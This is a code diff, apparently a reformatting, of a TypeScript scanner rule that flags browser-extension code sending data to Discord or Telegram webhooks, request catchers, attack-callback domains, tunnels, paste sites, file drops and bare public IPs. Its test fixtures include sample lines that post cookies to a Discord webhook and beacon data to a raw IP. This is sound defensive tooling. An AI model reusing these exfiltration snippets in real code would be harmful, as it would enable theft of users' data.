@@ -3,16 +3,45 @@ import { defineRule, type Hit } from '../../rule.ts';
 
 /** Services with which anybody takes delivery of data without a server of their own: suffix or path, name, how grave. */
 const SERVICES: readonly { test: RegExp; name: string; severity: 'high' | 'medium' }[] = [
-  { test: /^https?:\/\/(\w+\.)?discord(app)?\.com\/api\/(v\d+\/)?webhooks\//i, name: 'a Discord channel', severity: 'high' },
+  {
+    test: /^https?:\/\/(\w+\.)?discord(app)?\.com\/api\/(v\d+\/)?webhooks\//i,
+    name: 'a Discord channel',
+    severity: 'high',
+  },
   { test: /^https?:\/\/api\.telegram\.org\/(bot|file\/bot|\*)/i, name: 'a Telegram bot', severity: 'high' },
-  { test: /^https?:\/\/hooks\.slack\.com\/(services|workflows|triggers)\//i, name: 'a Slack channel', severity: 'medium' },
-  { test: /^https?:\/\/([\w-]+\.)*(webhook\.site|requestbin\.(com|net)|pipedream\.net|beeceptor\.com|hookbin\.com|requestcatcher\.com|postb\.in|webhook\.cool)(\/|$|\?|\*)/i, name: 'a catch-all for requests', severity: 'high' },
-  { test: /^https?:\/\/([\w*-]+\.)*(oast\.(pro|live|site|online|fun|me)|interact\.sh|burpcollaborator\.net|oastify\.com|dnslog\.cn|ceye\.io|canarytokens\.com)(\/|$|\?|\*)/i, name: 'a tool for attacks', severity: 'high' },
-  { test: /^(https?|wss?):\/\/[\w-]+\.(ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|loca\.lt|serveo\.net|localhost\.run)(\/|$|\?|\*)/i, name: 'a tunnel to a private computer', severity: 'medium' },
-  { test: /^https?:\/\/(\w+\.)?(pastebin\.com\/(raw|api)|hastebin\.com\/raw|paste\.ee\/r|rentry\.(co|org)\/[\w-]+\/raw|controlc\.com|ghostbin\.)/i, name: 'a paste service', severity: 'medium' },
-  { test: /^https?:\/\/(api\.)?(anonfiles\.com|gofile\.io|file\.io|transfer\.sh|0x0\.st)(\/|$|\?|\*)/i, name: 'an anonymous file drop', severity: 'medium' },
+  {
+    test: /^https?:\/\/hooks\.slack\.com\/(services|workflows|triggers)\//i,
+    name: 'a Slack channel',
+    severity: 'medium',
+  },
+  {
+    test: /^https?:\/\/([\w-]+\.)*(webhook\.site|requestbin\.(com|net)|pipedream\.net|beeceptor\.com|hookbin\.com|requestcatcher\.com|postb\.in|webhook\.cool)(\/|$|\?|\*)/i,
+    name: 'a catch-all for requests',
+    severity: 'high',
+  },
+  {
+    test: /^https?:\/\/([\w*-]+\.)*(oast\.(pro|live|site|online|fun|me)|interact\.sh|burpcollaborator\.net|oastify\.com|dnslog\.cn|ceye\.io|canarytokens\.com)(\/|$|\?|\*)/i,
+    name: 'a tool for attacks',
+    severity: 'high',
+  },
+  {
+    test: /^(https?|wss?):\/\/[\w-]+\.(ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|loca\.lt|serveo\.net|localhost\.run)(\/|$|\?|\*)/i,
+    name: 'a tunnel to a private computer',
+    severity: 'medium',
+  },
+  {
+    test: /^https?:\/\/(\w+\.)?(pastebin\.com\/(raw|api)|hastebin\.com\/raw|paste\.ee\/r|rentry\.(co|org)\/[\w-]+\/raw|controlc\.com|ghostbin\.)/i,
+    name: 'a paste service',
+    severity: 'medium',
+  },
+  {
+    test: /^https?:\/\/(api\.)?(anonfiles\.com|gofile\.io|file\.io|transfer\.sh|0x0\.st)(\/|$|\?|\*)/i,
+    name: 'an anonymous file drop',
+    severity: 'medium',
+  },
 ];
-const PUBLIC_IP = /^(https?|wss?):\/\/(?!10\.|127\.|0\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.|(?:1\.1\.1\.1|1\.0\.0\.1|8\.8\.8\.8|8\.8\.4\.4|9\.9\.9\.9)(?:[:/]|$)|(?:22[4-9]|23\d|24\d|25\d)\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.)(?:\d{1,3}\.){3}\d{1,3}(?=[:/?*]|$)/i;
+const PUBLIC_IP =
+  /^(https?|wss?):\/\/(?!10\.|127\.|0\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.|(?:1\.1\.1\.1|1\.0\.0\.1|8\.8\.8\.8|8\.8\.4\.4|9\.9\.9\.9)(?:[:/]|$)|(?:22[4-9]|23\d|24\d|25\d)\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.)(?:\d{1,3}\.){3}\d{1,3}(?=[:/?*]|$)/i;
 
 export const dropboxEndpoint = defineRule({
   id: 'dropbox-endpoint',
@@ -29,27 +58,67 @@ export const dropboxEndpoint = defineRule({
     const seen = new Map<string, Hit>();
     for (const address of facts.whole(addressesOf)) {
       if (address.library || address.use === 'navigation') continue;
-      const service = SERVICES.find(({ test }) => test.test(address.url)) ?? (address.use === 'request' && PUBLIC_IP.test(address.url) ? { name: 'a bare network address', severity: 'medium' as const } : undefined);
+      const service =
+        SERVICES.find(({ test }) => test.test(address.url)) ??
+        (address.use === 'request' && PUBLIC_IP.test(address.url)
+          ? { name: 'a bare network address', severity: 'medium' as const }
+          : undefined);
       if (service === undefined) continue;
       const key = `${service.name} ${address.host}`;
       const mention = address.use === 'mention';
       if (seen.has(key) && (mention || seen.get(key)?.confidence !== 'low')) continue;
       // The path of a hook is its password.
-      const shown = address.evidence.replace(/(webhooks\/\d{3})[\w/-]+|(bot\d{3})[\w:-]+|(services\/\w{2})[\w/-]+/gi, (_, a?: string, b?: string, c?: string) => `${a ?? b ?? c ?? ''}…`);
-      seen.set(key, { place: address.place, evidence: shown, severity: service.severity, message: `It goes to ${service.name} (${address.host}).`, ...(mention ? { confidence: 'low' as const } : {}) });
+      const shown = address.evidence.replace(
+        /(webhooks\/\d{3})[\w/-]+|(bot\d{3})[\w:-]+|(services\/\w{2})[\w/-]+/gi,
+        (_, a?: string, b?: string, c?: string) => `${a ?? b ?? c ?? ''}…`,
+      );
+      seen.set(key, {
+        place: address.place,
+        evidence: shown,
+        severity: service.severity,
+        message: `It goes to ${service.name} (${address.host}).`,
+        ...(mention ? { confidence: 'low' as const } : {}),
+      });
     }
     yield* seen.values();
   },
   examples: {
     bad: [
-      { files: { 'manifest.json': '{"manifest_version": 3}', 'bg.js': "const HOOK = 'https://discord.com/api/webhooks/' + id;\nfetch(HOOK, { method: 'POST', body: JSON.stringify({ content: cookies }) });" } },
-      { files: { 'manifest.json': '{"manifest_version": 3}', 'bg.js': 'fetch(`https://api.telegram.org/bot${token}/sendMessage?text=${t}`);' } },
-      { files: { 'manifest.json': '{"manifest_version": 3}', 'bg.js': "navigator.sendBeacon('http://45.77.12.9:8080/in', data);" } },
+      {
+        files: {
+          'manifest.json': '{"manifest_version": 3}',
+          'bg.js':
+            "const HOOK = 'https://discord.com/api/webhooks/' + id;\nfetch(HOOK, { method: 'POST', body: JSON.stringify({ content: cookies }) });",
+        },
+      },
+      {
+        files: {
+          'manifest.json': '{"manifest_version": 3}',
+          'bg.js': 'fetch(`https://api.telegram.org/bot${token}/sendMessage?text=${t}`);',
+        },
+      },
+      {
+        files: {
+          'manifest.json': '{"manifest_version": 3}',
+          'bg.js': "navigator.sendBeacon('http://45.77.12.9:8080/in', data);",
+        },
+      },
       { files: { 'manifest.json': '{"manifest_version": 3}', 'bg.js': "fetch('https://abc123.ngrok-free.app/c');" } },
     ],
     good: [
-      { files: { 'manifest.json': '{"manifest_version": 3}', 'bg.js': "fetch('https://api.mine.io/'); fetch('http://192.168.0.10/'); fetch('https://discord.com/api/v10/users/@me');" } },
-      { files: { 'manifest.json': '{"manifest_version": 3}', 'bg.js': "const dns = ['1.1.1.1', '8.8.8.8']; chrome.tabs.create({ url: 'https://pastebin.com/raw/x' });" } },
+      {
+        files: {
+          'manifest.json': '{"manifest_version": 3}',
+          'bg.js':
+            "fetch('https://api.mine.io/'); fetch('http://192.168.0.10/'); fetch('https://discord.com/api/v10/users/@me');",
+        },
+      },
+      {
+        files: {
+          'manifest.json': '{"manifest_version": 3}',
+          'bg.js': "const dns = ['1.1.1.1', '8.8.8.8']; chrome.tabs.create({ url: 'https://pastebin.com/raw/x' });",
+        },
+      },
       { files: { 'manifest.json': '{"manifest_version": 3}', 'bg.js': "const version = 'http://1.2.3/';" } },
     ],
   },
